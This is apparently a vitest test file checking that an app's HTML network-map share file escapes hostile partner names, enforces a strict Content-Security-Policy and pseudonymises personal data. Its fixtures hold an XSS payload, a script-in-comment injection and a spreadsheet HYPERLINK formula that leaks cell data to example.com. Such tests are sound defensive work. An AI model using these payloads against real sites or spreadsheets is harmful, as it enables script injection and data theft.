// @vitest-environment jsdom
import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { shareInput } from '../../../src/app/share/share-input';
import { cliTranslator } from '../../../src/cli/i18n';
import { createCooperation, createPartner, emptyRecord } from '../../../src/core/model/types';
import type { Network } from '../../../src/core/model/types';
import { networkKeyFigures } from '../../../src/core/report/network-key-figures';
import { jsonInScript, writeShareFile } from '../../../src/core/share/share-file';
import { sha256Base64 } from '../../../src/core/share/sha256';
import type { ShareData } from '../../../src/core/share/types';
import { SHARE_VIEWER } from '../../../src/share-viewer';

const SCRIPT_NAME = '</script><img src=x onerror=alert(1)>';
const FORMULA_NAME = '=HYPERLINK("http://example.com/?leak="&A1;"Klick")';
const COMMENT_NAME = '<!--<script>alert(1)</script>';
const SEPARATOR_NAME = 'Kita\u2028Regenbogen\u2029';

function record(entries: [string, string][]): Record<string, string> {
  const attributes = emptyRecord<string>();
  for (const [name, value] of entries) attributes[name] = value;
  return attributes;
}

/** Five partners whose every field says who they are, and ties that say what they do. */
function network(): Network {
  const partners = [
    createPartner({
      id: 'ja-mueller',
      name: 'Jugendamt Auenstadt',
      sector: 'Kinder- und Jugendhilfe',
      type: 'Jugendamt',
      carrier: 'Stadt Auenstadt',
      municipality: 'Auenstadt',
      socialArea: 'Auenstadt-Mitte',
      offers: ['Willkommensbesuch Lindenhof'],
      since: 2011,
      attributes: record([
        ['Telefon', '02221 555-101'],
        ['E-Mail', 'koordination@auenstadt.example'],
        ['Ansprechperson', 'Frau Özdemir'],
      ]),
    }),
    createPartner({
      id: 'praxis-dr-berg',
      name: 'Kinderarztpraxis Dr. Berg',
      sector: 'Gesundheitswesen',
      type: 'Kinderarztpraxis',
      attributes: record([
        ['Adresse', 'Lindenweg 7, 12345 Auenstadt'],
        ['Notizen', 'Dr. Berg geht 2027 in Rente'],
      ]),
    }),
    createPartner({
      id: 'praxis-dr-sommer',
      name: 'Praxis Dr. Sommer',
      sector: 'Gesundheitswesen',
      type: 'Kinderarztpraxis',
      carrier: 'privat-Sommer-GbR',
    }),
    createPartner({ id: 'x1', name: SCRIPT_NAME, sector: 'Beratung', type: FORMULA_NAME }),
    createPartner({ id: 'x2', name: COMMENT_NAME, sector: '', type: '' }),
    createPartner({ id: 'x3', name: SEPARATOR_NAME, sector: 'Eigener Sektor', type: '' }),
  ];
  const tie = (source: string, target: string, intensity: 1 | 2 | 3 | 4, kind: string) =>
    createCooperation({ source, target, intensity, formal: intensity === 4, kind });
  return {
    partners,
    cooperations: [
      tie('ja-mueller', 'praxis-dr-berg', 4, 'Fallkonferenz mit Frau Özdemir'),
      tie('ja-mueller', 'praxis-dr-sommer', 2, 'Babylotsen-Übergabe'),
      tie('ja-mueller', 'x1', 3, FORMULA_NAME),
      tie('x1', 'x2', 1, ''),
    ],
  };
}

/** Praxis Dr. Sommer stands left of Dr. Berg on the map; x3 has no place. */
const POSITIONS = new Map([
  ['ja-mueller', { x: 0, y: 0 }],
  ['praxis-dr-berg', { x: 50, y: 10 }],
  ['praxis-dr-sommer', { x: -40, y: 30 }],
  ['x1', { x: 20, y: -30 }],
  ['x2', { x: 30, y: 40 }],
]);

function write(pseudonymised: boolean, language: 'de' | 'en' = 'de') {
  const net = network();
  const html = writeShareFile(
    shareInput(cliTranslator(language), {
      network: net,
      positions: POSITIONS,
      pseudonymised,
      networkName: 'Netzwerk Frühe Hilfen Beispielkreis',
      figures: networkKeyFigures(net),
      catalogue: null,
      language,
      today: '2026-12-07',
    }),
    SHARE_VIEWER,
  );
  const document = new DOMParser().parseFromString(html, 'text/html');
  const data = JSON.parse(
    document.getElementById('share-data')?.textContent ?? 'null',
  ) as ShareData;
  return { html, document, data };
}

describe('the share file', () => {
  const { html, document, data } = write(false);

  it('is one page: two scripts (the data and the viewer), one stylesheet, nothing it loads', () => {
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(document.documentElement.lang).toBe('de');
    const scripts = [...document.querySelectorAll('script')];
    expect(scripts.map((s) => s.getAttribute('type'))).toEqual(['application/json', null]);
    expect(scripts[1]!.textContent).toBe(SHARE_VIEWER.script);
    expect(document.querySelectorAll('style')).toHaveLength(1);
    expect(
      document.querySelectorAll('[src], link[rel="stylesheet"], img, iframe, object'),
    ).toHaveLength(0);
    expect(document.querySelector('link[rel="icon"]')?.getAttribute('href')).toBe('data:,');
  });

  it('allows its one script and its one stylesheet by hash, and no connection, frame or font', () => {
    const policy =
      document
        .querySelector('meta[http-equiv="Content-Security-Policy"]')
        ?.getAttribute('content') ?? '';
    const script = document.querySelectorAll('script')[1]!.textContent ?? '';
    const style = document.querySelector('style')?.textContent ?? '';
    expect(policy.split('; ')).toEqual([
      "default-src 'none'",
      `script-src 'sha256-${sha256Base64(script)}'`,
      `style-src 'sha256-${sha256Base64(style)}'`,
      'img-src data:',
      "base-uri 'none'",
      "form-action 'none'",
    ]);
    expect(html).not.toMatch(/unsafe-inline|unsafe-eval/);
    // No attribute carries a style or a handler: the policy would refuse them anyway.
    const attributes = [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames(),
    );
    expect(attributes.filter((name) => name === 'style' || name.startsWith('on'))).toEqual([]);
  });

  it('writes hostile names as text: no element, no script, no early end of the data block', () => {
    expect(document.querySelectorAll('img')).toHaveLength(0);
    expect(html.match(/<\/script>/g)).toHaveLength(2);
    const rows = [...document.querySelectorAll('#share-table tbody th button')].map(
      (b) => b.textContent,
    );
    expect(rows).toEqual(expect.arrayContaining([SCRIPT_NAME, COMMENT_NAME, SEPARATOR_NAME]));
    const tooltips = [...document.querySelectorAll('.share-svg g[data-partner] title')].map(
      (t) => t.textContent,
    );
    expect(tooltips).toEqual(expect.arrayContaining([SCRIPT_NAME, COMMENT_NAME]));
    // Inside the data block no character that HTML reads: only JSON escapes.
    const block = html.slice(html.indexOf('id="share-data">') + 16, html.indexOf('</script>'));
    expect(block).not.toMatch(/[<>&\u2028\u2029]/);
  });

  it('holds the network as JSON that reads back exactly: names, fields, ties, sectors', () => {
    expect(data.format).toBe('netzwerkkarte-share');
    expect(data.pseudonymised).toBe(false);
    expect(data.partners.map((p) => p.name)).toEqual(network().partners.map((p) => p.name));
    const office = data.partners[0]!;
    expect(office.details).toEqual([
      ['Träger', 'Stadt Auenstadt'],
      ['Kommune', 'Auenstadt'],
      ['Sozialraum', 'Auenstadt-Mitte'],
      ['Angebote', 'Willkommensbesuch Lindenhof'],
      ['Im Netzwerk seit', '2011'],
      ['Telefon', '02221 555-101'],
      ['E-Mail', 'koordination@auenstadt.example'],
      ['Ansprechperson', 'Frau Özdemir'],
    ]);
    expect(office.ties).toBe(3);
    expect(data.partners[3]!.type).toBe(FORMULA_NAME);
    expect(data.partners[5]!.onMap).toBe(false);
    expect(data.ties[0]).toEqual({
      a: 0,
      b: 1,
      intensity: 4,
      formal: true,
      kind: 'Fallkonferenz mit Frau Özdemir',
      width: 2.9,
    });
    expect(data.sectors.map((s) => s.name)).toEqual([
      'Kinder- und Jugendhilfe',
      'Gesundheitswesen',
      'Beratung',
      'ohne Sektor',
      'Eigener Sektor',
    ]);
    expect(data.texts.scale[3]).toBe('verbindliche Kooperation');
  });

  it('keys partners by their number in the file, never by the IDs of the lists', () => {
    for (const id of ['ja-mueller', 'praxis-dr-berg', 'praxis-dr-sommer'])
      expect(html).not.toContain(id);
    const dots = [...document.querySelectorAll('.share-svg g[data-partner]')].map((g) =>
      g.getAttribute('data-partner'),
    );
    expect(dots.sort()).toEqual(['0', '1', '2', '3', '4']);
  });

  it('shows the name, the date, the key figures with their explanations and what the file does not do', () => {
    expect(document.querySelector('h1')?.textContent).toBe('Netzwerk Frühe Hilfen Beispielkreis');
    expect(document.querySelector('.share-header')?.textContent).toContain(
      'Stand: 7. Dezember 2026',
    );
    expect(document.querySelector('footer')?.textContent).toBe(
      'Erstellt mit Netzwerkkarte am 7. Dezember 2026; diese Datei lädt nichts nach und speichert nichts.',
    );
    const partners = document.querySelector('[data-figure="partners"]');
    expect(partners?.querySelector('dt')?.textContent).toBe('Partner');
    expect(partners?.querySelector('.share-value')?.textContent).toBe('6');
    expect(partners?.querySelector('dd')?.textContent).toContain('Einrichtungen im Netzwerk.');
    expect(document.querySelector('[data-figure="isolates"] .share-value')?.textContent).toBe('1');
    expect(document.querySelector('.share-note[role="note"]')).toBeNull();
    // The table in German order, sortable by every column.
    expect(
      [...document.querySelectorAll('#share-table thead button')].map((b) => b.textContent),
    ).toEqual(['Name', 'Sektor', 'Einrichtungsart', 'Kooperationen']);
  });

  it('speaks English when the app does', () => {
    const english = write(false, 'en').document;
    expect(english.documentElement.lang).toBe('en');
    expect(english.querySelector('footer')?.textContent).toBe(
      'Made with Netzwerkkarte on 7 December 2026; this file loads nothing and stores nothing.',
    );
    expect(english.querySelector('label[for="share-search"]')?.textContent).toBe('Find a partner');
  });
});

describe('the pseudonymised share file', () => {
  const { html, document, data } = write(true);

  it('holds none of the names, contact details, places, offers, notes or IDs, anywhere in its bytes', () => {
    const original = network();
    const secrets = [
      ...original.partners.flatMap((p) => [
        p.id,
        p.name,
        p.carrier,
        p.municipality,
        p.socialArea,
        ...p.offers,
        ...Object.values(p.attributes),
      ]),
      ...original.cooperations.map((c) => c.kind),
      'Özdemir',
      'Berg',
      'Sommer',
    ].filter((text) => text !== '' && text !== FORMULA_NAME);
    const bytes = new TextEncoder().encode(html);
    const decoded = new TextDecoder().decode(bytes);
    // In the page as written and in the text a reader's browser decodes from it (entities, escapes).
    const readable = `${decoded}\n${document.documentElement.outerHTML}\n${JSON.stringify(data)}`;
    for (const secret of secrets) expect(readable, secret).not.toContain(secret);
  });

  it('names each partner by its type (or sector) and a number, left to right on the map', () => {
    expect(data.pseudonymised).toBe(true);
    expect(data.partners.map((p) => p.name)).toEqual([
      'Jugendamt 1',
      // Dr. Sommer stands further left than Dr. Berg.
      'Kinderarztpraxis 2',
      'Kinderarztpraxis 1',
      `${FORMULA_NAME} 1`,
      'Partner 1',
      'Eigener Sektor 1',
    ]);
    expect(data.partners.every((p) => p.details.length === 0)).toBe(true);
    expect(data.ties.map((t) => t.kind)).toEqual(['', '', '', '']);
    expect(data.ties.map((t) => [t.a, t.b, t.intensity, t.formal])).toEqual([
      [0, 1, 4, true],
      [0, 2, 2, false],
      [0, 3, 3, false],
      [3, 4, 1, false],
    ]);
  });

  it('says at its top that it is pseudonymised', () => {
    expect(document.querySelector('.share-note[role="note"]')?.textContent).toMatch(
      /^Pseudonymisiert: Statt der Namen stehen die Einrichtungsart und eine Nummer/,
    );
  });
});

describe('the viewer written into every share file', () => {
  it('cannot end its element early or change how the HTML parser reads it', () => {
    expect(SHARE_VIEWER.script).not.toMatch(/<\/script|<!--/i);
    expect(SHARE_VIEWER.style).not.toMatch(/<\/style|<!--/i);
  });
});

describe('jsonInScript', () => {
  test.prop([fc.jsonValue()])('reads back as the same value', (value) => {
    expect(JSON.parse(jsonInScript(value))).toEqual(JSON.parse(JSON.stringify(value)));
  });

  test.prop([fc.string({ unit: 'binary' })])(
    'leaves no character in a string that the HTML parser would read',
    (text) => {
      const written = jsonInScript({ name: text });
      expect(written).not.toMatch(/[<>&\u2028\u2029]/);
      expect((JSON.parse(written) as { name: string }).name).toBe(text);
    },
  );
});
